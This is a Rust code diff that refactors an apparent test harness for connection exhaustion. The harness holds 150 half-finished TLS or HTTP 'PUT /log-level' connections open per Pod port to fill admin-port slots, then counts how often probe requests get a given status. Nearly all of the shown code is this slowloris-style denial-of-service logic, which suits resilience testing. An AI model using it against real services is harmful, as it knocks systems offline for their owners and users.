@@ -11,7 +11,7 @@ use tokio::time::timeout;
 use super::{Campaign, REST, at};
 
 /// Connections to each port of each Pod. An admin port has 128 places.
-const SOCKETS: usize = 150;
+const SOCKETS: u32 = 150;
 /// The first bytes of a TLS record that would be a ClientHello.
 const HALF_HELLO: &[u8] = &[0x16, 3, 1, 2, 0, 1];
 const HALF_REQUEST: &[u8] = b"PUT /log-level HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n";
@@ -47,12 +47,9 @@ pub(super) fn attack(campaign: &mut Campaign, proxies: &[IpAddr], controls: &[Ip
 /// Connections on each of which `said` is all that is said; one that is closed is followed by another.
 fn hold(campaign: &mut Campaign, name: &'static str, addresses: &[SocketAddr], said: &'static [u8]) {
     let opened = campaign.count(name);
-    let all = addresses.iter().flat_map(|address| (0..SOCKETS as u32).map(move |number| (*address, number)));
-    for (address, number) in all {
+    campaign.spawn_each(addresses, SOCKETS, HOLD_REST, |address| {
         let opened = opened.clone();
-        campaign.spawn(async move {
-            // Spread over time: a kernel that opens a thousand connections at once has no time for anybody else.
-            tokio::time::sleep(HOLD_REST * number / SOCKETS as u32).await;
+        async move {
             loop {
                 if let Ok(Ok(mut stream)) = timeout(PATIENCE, TcpStream::connect(address)).await {
                     opened.fetch_add(1, Ordering::Relaxed);
@@ -62,8 +59,8 @@ fn hold(campaign: &mut Campaign, name: &'static str, addresses: &[SocketAddr], s
                 }
                 tokio::time::sleep(HOLD_REST).await;
             }
-        });
-    }
+        }
+    });
 }
 
 /// Ten requests a second to each, of which those are counted whose answer has the status.
@@ -74,18 +71,18 @@ fn ask_again_and_again(
     request: &'static [u8],
     status: &'static [u8],
 ) {
-    let refused = campaign.count(name);
-    for address in addresses.iter().copied() {
-        let refused = refused.clone();
-        campaign.spawn(async move {
+    let answered = campaign.count(name);
+    campaign.spawn_each(addresses, 1, REST, |address| {
+        let answered = answered.clone();
+        async move {
             loop {
                 let answer = timeout(PATIENCE, ask(address, request)).await;
                 let is_it = |answer: &[u8]| answer.windows(status.len()).take(20).any(|bytes| bytes == status);
-                refused.fetch_add(answer.is_ok_and(|answer| is_it(&answer)).into(), Ordering::Relaxed);
+                answered.fetch_add(answer.is_ok_and(|answer| is_it(&answer)).into(), Ordering::Relaxed);
                 tokio::time::sleep(REST).await;
             }
-        });
-    }
+        }
+    });
 }
 
 /// What is answered, as far as one read gives it.
